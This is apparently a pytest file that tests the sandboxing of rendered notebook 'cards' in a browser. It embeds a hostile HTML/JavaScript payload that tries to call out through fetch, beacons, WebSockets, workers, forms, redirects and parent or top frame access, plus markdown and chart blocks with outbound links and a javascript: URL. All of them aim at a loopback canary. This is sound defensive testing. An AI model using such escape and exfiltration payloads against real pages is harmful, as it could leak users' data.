"""Cards in a real browser: a hostile one makes no request, runs nothing outside its frame, and reaches nothing of the page."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from flowc.runtime_shim.cards.view.page import framed, html_of, in_notebook

from ..runtime_shim.cards.test_view import BLOCKS
from . import browser

pytestmark = [pytest.mark.engine, pytest.mark.slow]


class Canary:
    """A server on loopback that records its callers."""

    def __init__(self) -> None:
        calls = self.calls = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                calls.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = HTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def canary() -> Iterator[Canary]:
    canary_server = Canary()
    yield canary_server
    canary_server.server.shutdown()
    canary_server.server.server_close()


def hostile(url: str) -> str:
    """Returns HTML that tries to leave its frame."""
    return f"""<html><head><meta http-equiv="refresh" content="0; url={url}/refresh"><link rel="prefetch" href="{url}/prefetch">
<link rel="stylesheet" href="{url}/style.css"><base href="{url}/"></head><body style="background: url({url}/background)">
<img src="{url}/img" onerror="window.failed = 1"><svg><image href="{url}/svg"/></svg><iframe src="{url}/frame"></iframe>
<object data="{url}/object"></object><video src="{url}/video" poster="{url}/poster"></video>
<form id="f" action="{url}/form" method="post"><input name="a"></form><script src="{url}/script.js"></script>
<p id="p">not run</p><script>
const tries = [];
const attempt = (name, work) => {{ try {{ work(); tries.push(name + " ok"); }} catch (error) {{ tries.push(name + " " + error.name); }} }};
attempt("fetch", () => {{ fetch("{url}/fetch").then(() => document.body.append("fetched"), () => 0); }});
attempt("beacon", () => navigator.sendBeacon("{url}/beacon", "x"));
attempt("image", () => {{ new Image().src = "{url}/image"; }});
attempt("socket", () => new WebSocket("{url}/socket".replace("http", "ws")));
attempt("events", () => new EventSource("{url}/events"));
attempt("import", () => {{ import("{url}/module.js").catch(() => 0); }});
attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["fetch('{url}/worker')"]))));
attempt("parent", () => {{ parent.ran = ["parent"]; }});
attempt("top", () => {{ top.location = "{url}/top"; }});
attempt("self", () => {{ location.href = "{url}/self"; }});
attempt("open", () => {{ if (open("{url}/open")) document.body.append("opened"); }});
attempt("storage", () => localStorage.setItem("a", "b"));
attempt("submit", () => document.getElementById("f").submit());
attempt("alert", () => alert("hello"));
document.getElementById("p").textContent = "ran";
</script></body></html>"""


def test_a_hostile_card_gets_nothing_out(canary: Canary, tmp_path: Path) -> None:
    blocks: list[Any] = [*BLOCKS, {"type": "html", "data": hostile(canary.url)}]
    blocks += [
        {
            "type": "markdown",
            "source": f"![a]({canary.url}/md) <img src={canary.url}/raw> [x](javascript:fetch('{canary.url}/js'))",
        },
        {
            "type": "image",
            "src": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{canary.url}/in-svg'/></svg>",
            "label": "x",
        },
        {"type": "vegaChart", "spec": {"data": {"url": f"{canary.url}/vega"}}},
    ]
    page = html_of(
        {
            "metadata": {"pathspec": "F/r/start/start"},
            "components": [{"type": "page", "title": "T", "contents": blocks}],
        }
    )
    custom = framed(hostile(canary.url), "custom")
    (tmp_path / "drawn.html").write_text(page, encoding="utf-8")
    (tmp_path / "custom.html").write_text(custom, encoding="utf-8")
    notebook = in_notebook(page, "drawn", False) + in_notebook(custom, "custom", True)
    (tmp_path / "notebook.html").write_text(f"<!DOCTYPE html><title>Notebook</title>{notebook}", encoding="utf-8")
    gentle = "<p id='p'>not run</p><script>document.getElementById('p').textContent = eval('1 + 1')</script>"
    (tmp_path / "gentle.html").write_text(framed(gentle, "gentle"), encoding="utf-8")
    pages = browser.run(Path(__file__).with_name("card_pages.py"), str(tmp_path))
    assert canary.calls == []
    for name, seen in pages.items():
        assert (
            seen["answers"] == []
            and seen["dialogs"] == []
            and seen["popups"] == 0
            and seen["ran"] == []
            and seen["url"]
        ), (name, seen)
        assert seen["wide"] <= 0, name
    assert pages["gentle"]["frames"] == ["2"]  # scripts of a custom type run, in their frame
    assert any("not run" in frame for frame in pages["drawn"]["frames"])  # those of a component do not
